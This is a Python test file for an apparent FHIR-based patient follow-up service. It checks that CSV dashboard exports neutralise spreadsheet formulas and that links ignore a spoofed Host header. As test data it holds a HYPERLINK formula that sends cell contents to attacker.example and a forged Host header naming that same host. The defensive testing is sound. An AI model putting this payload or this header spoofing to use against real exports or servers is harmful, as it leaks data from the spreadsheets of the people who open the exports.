"""Dashboard CSV cells cannot run as spreadsheet formulas (finding L3); links come from LTFU_PUBLIC_URL,
not from the Host header, when it is set (L5)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests

from ltfu.api.app import create_app
from ltfu.settings import Settings
from ltfu.ui.routes import csv_cell
from tests.conftest import ADMIN_PASSWORD, Api
from tests.support.server import ServerThread

CONN = {"system": "http://terminology.hl7.org/CodeSystem/endpoint-connection-type", "code": "hl7-fhir-rest"}
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


def test_formula_cells_are_neutralised() -> None:
    assert [csv_cell(v) for v in ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "Kisumu", "", 5, -3, None]] == [
        "'=1+1",
        "'+1",
        "'-2+3",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
        "Kisumu",
        "",
        5,
        -3,
        None,
    ]


def test_facility_names_in_the_programme_csv(server: Api) -> None:
    ep = server.post(
        "/fhir/Endpoint",
        json={
            "resourceType": "Endpoint",
            "status": "active",
            "connectionType": CONN,
            "payloadType": [{"text": "Task"}],
            "address": "http://127.0.0.1:9/x",
        },
    )
    org = server.post(
        "/fhir/Organization",
        json={
            "resourceType": "Organization",
            "name": FORMULA,
            "endpoint": [{"reference": f"Endpoint/{ep.json()['id']}"}],
        },
    )
    pat = server.post("/fhir/Patient", json={"resourceType": "Patient", "gender": "female"}).json()["id"]
    sr = {
        "resourceType": "ServiceRequest",
        "status": "active",
        "intent": "order",
        "identifier": [{"system": "urn:req", "value": "CSV-1"}],
        "subject": {"reference": f"Patient/{pat}"},
        "requester": {"reference": f"Organization/{org.json()['id']}"},
    }
    assert server.post("/fhir/ServiceRequest", json=sr).status_code == 201
    r = server.get("/ui/programme/facilities.csv")
    assert r.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
    assert "'" + FORMULA in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


@pytest.fixture
def public(settings: Settings, tmp_path: Path) -> Iterator[str]:
    s = settings.model_copy(update={"public_url": "https://ltfu.example.org"})
    with ServerThread(create_app(s)) as srv:
        yield srv.url


def test_links_come_from_the_public_url_not_the_host_header(public: str) -> None:
    evil = {"Host": "attacker.example"}
    r = requests.post(
        public + "/fhir/Patient",
        json={"resourceType": "Patient"},
        headers=evil,
        auth=("admin", ADMIN_PASSWORD),
        timeout=10,
    )
    assert r.status_code == 201
    assert r.headers["Location"].startswith("https://ltfu.example.org/fhir/Patient/")
    bundle = requests.get(public + "/fhir/Patient", headers=evil, auth=("admin", ADMIN_PASSWORD), timeout=10).json()
    urls = [link["url"] for link in bundle.get("link", [])] + [e["fullUrl"] for e in bundle.get("entry", [])]
    assert urls and all(u.startswith("https://ltfu.example.org/fhir") for u in urls)
    assert "attacker.example" not in requests.get(public + "/fhir/metadata", headers=evil, timeout=10).text
